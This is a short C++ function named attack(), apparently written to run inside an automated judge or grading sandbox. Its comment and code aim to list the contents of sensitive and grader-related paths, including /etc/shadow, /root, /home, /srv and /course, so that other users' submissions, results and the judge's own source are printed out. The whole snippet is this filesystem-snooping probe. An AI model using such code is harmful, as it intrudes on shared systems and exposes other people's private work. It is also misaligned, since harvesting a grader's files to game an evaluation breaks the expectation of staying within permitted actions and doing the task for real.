// Prints whatever else is lying about: other submissions, results, the judge's source.
static void attack() {
    for (const char* path : {"/etc/shadow", "/root/.bashrc", "/home", "/var/lib", "/work", "/srv", "/out", "/lab", "/course"}) {
        DIR* folder = ::opendir(path);
        for (dirent* entry; folder && (entry = ::readdir(folder));)
            ::printf("%s/%s\n", path, entry->d_name);
        if (folder)
            ::closedir(folder);
    }
    ::_exit(0);
}
